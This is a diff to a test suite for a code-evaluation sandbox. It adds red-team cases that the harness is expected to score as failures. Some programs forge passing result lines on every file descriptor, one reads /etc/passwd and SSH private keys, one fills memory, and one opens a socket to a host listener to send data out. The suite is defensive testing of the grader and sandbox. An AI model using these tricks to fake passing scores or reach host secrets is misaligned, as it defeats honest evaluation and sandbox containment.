@@ -651,6 +651,23 @@ const CODE_EXEC_CASES: CodeExecCase[] = [
     expected: 1,
   },
   {
+    name: 'forge: python writes the right reports to every descriptor, then exits',
+    language: 'python',
+    answer: lines(
+      'import os',
+      'for fd in range(64):',
+      '    try:',
+      '        os.write(fd, b\'[0, "ok", "4", ""]\\n[1, "ok", "9", ""]\\n\')',
+      '    except OSError:',
+      '        pass',
+      'os._exit(0)',
+      'def f(x):',
+      '    return None',
+    ),
+    tests: SQUARES,
+    expected: 0,
+  },
+  {
     name: 'forge: javascript calls the harness’s report, then process.exit(0)',
     language: 'javascript',
     answer: 'function f(x) { __assayReport(0, true); __assayReport(1, true); process.exit(0); }',
@@ -705,6 +722,44 @@ const CODE_EXEC_CASES: CodeExecCase[] = [
     language: 'javascript',
     answer:
       'const held = [];\nfunction f(x) { for (let i = 0; i < 8; i++) held.push(Buffer.alloc(256 * 1024 * 1024, 1)); return x * x; }',
+    tests: SQUARES,
+    expected: 0,
+  },
+  {
+    name: 'escape: javascript reads the host’s files',
+    language: 'javascript',
+    answer:
+      "const fs = require('node:fs');\nfunction f(x) { const seen = ['/etc/passwd', '/etc/hostname', '/root/.ssh/id_rsa', process.env.HOME + '/.bashrc'].filter((file) => { try { fs.readFileSync(file); return true; } catch { return false; } }); return seen.length ? x * x : null; }",
+    tests: SQUARES,
+    expected: 0,
+  },
+  {
+    name: 'memory: javascript worker threads hold 400 MiB each',
+    language: 'javascript',
+    answer: lines(
+      "const { Worker } = require('node:worker_threads');",
+      'const grab = () => new Promise((resolve) => {',
+      '  const worker = new Worker("const held = Buffer.alloc(400 * 1024 * 1024, 1); require(\'node:worker_threads\').parentPort.postMessage(held.length); setTimeout(() => {}, 300);", { eval: true });',
+      "  worker.on('message', () => resolve(true));",
+      "  worker.on('error', () => resolve(false));",
+      '});',
+      'async function f(x) { const held = await Promise.all([grab(), grab(), grab()]); return held.every(Boolean) ? x * x : null; }',
+    ),
+    tests: SQUARES,
+    expected: 0,
+  },
+  {
+    name: 'forge: javascript writes the right reports to every descriptor, then answers wrong',
+    language: 'javascript',
+    answer: lines(
+      "const fs = require('node:fs');",
+      'for (let fd = 0; fd < 64; fd++) {',
+      '  try {',
+      '    fs.writeSync(fd, \'[0, "ok", "4", ""]\\n[1, "ok", "9", ""]\\n\');',
+      '  } catch {}',
+      '}',
+      'function f(x) { return null; }',
+    ),
     tests: SQUARES,
     expected: 0,
   },
@@ -789,6 +844,16 @@ describeSandbox('the red team', () => {
       expected: 0,
     };
     const humaneval = [...HUMANEVAL_CASES, network, named];
+    const codeExec: CodeExecCase[] = [
+      ...CODE_EXEC_CASES,
+      {
+        name: 'escape: javascript reaches a listener on the host',
+        language: 'javascript',
+        answer: `const net = require('node:net');\nfunction f(x) { return new Promise((resolve) => { const socket = net.connect(${port}, '127.0.0.1', () => { socket.end('exfiltrated'); resolve(x * x); }); socket.on('error', () => resolve(null)); }); }`,
+        tests: SQUARES,
+        expected: 0,
+      },
+    ];
     const directory = await mkdtemp(path.join(os.tmpdir(), 'assay-red-team-'));
 
     // One HumanEval problem per case; the docstring carries the case number so each prompt is unique.
@@ -825,17 +890,19 @@ describeSandbox('the red team', () => {
     const codeExecTask = path.join(directory, 'red_team_code_exec.jsonl');
     writeFileSync(
       codeExecTask,
-      `${CODE_EXEC_CASES.map((entry, index) => {
-        const prompt = `red team case ${index}`;
-        answers.set(prompt, entry.answer);
-        return JSON.stringify({
-          id: index,
-          prompt,
-          targets: [],
-          metric: 'code_exec',
-          extras: { language: entry.language, tests: entry.tests },
-        });
-      }).join('\n')}\n`,
+      `${codeExec
+        .map((entry, index) => {
+          const prompt = `red team case ${index}`;
+          answers.set(prompt, entry.answer);
+          return JSON.stringify({
+            id: index,
+            prompt,
+            targets: [],
+            metric: 'code_exec',
+            extras: { language: entry.language, tests: entry.tests },
+          });
+        })
+        .join('\n')}\n`,
     );
 
     const output = await simpleEvaluate({
@@ -847,29 +914,23 @@ describeSandbox('the red team', () => {
 
     const got = Object.fromEntries([
       ...output.samples.red_team_humaneval.map((line, index) => [humaneval[index].name, line['pass@1']]),
-      ...output.samples.red_team_code_exec.map((line, index) => [
-        CODE_EXEC_CASES[index].name,
-        line.code_exec,
-      ]),
+      ...output.samples.red_team_code_exec.map((line, index) => [codeExec[index].name, line.code_exec]),
     ]);
     const want = Object.fromEntries([
       ...humaneval.map((entry) => [entry.name, entry.expected]),
-      ...CODE_EXEC_CASES.map((entry) => [entry.name, entry.expected]),
+      ...codeExec.map((entry) => [entry.name, entry.expected]),
     ]);
     // On a mismatch, show how each wrongly scored program ended.
     const outcomes = Object.fromEntries([
       ...output.samples.red_team_humaneval.map((line, index) => [humaneval[index].name, line.execution]),
-      ...output.samples.red_team_code_exec.map((line, index) => [
-        CODE_EXEC_CASES[index].name,
-        line.execution,
-      ]),
+      ...output.samples.red_team_code_exec.map((line, index) => [codeExec[index].name, line.execution]),
     ]);
     const wrong = Object.keys(want).filter((name) => got[name] !== want[name]);
     expect(
       got,
       JSON.stringify(Object.fromEntries(wrong.map((name) => [name, outcomes[name]])), null, 1),
     ).toEqual(want);
-    const hostile = [...humaneval, ...CODE_EXEC_CASES].filter((entry) => !entry.name.startsWith('control:'));
+    const hostile = [...humaneval, ...codeExec].filter((entry) => !entry.name.startsWith('control:'));
     expect(hostile.length).toBeGreaterThanOrEqual(30);
 
     expect(connections).toBe(0);
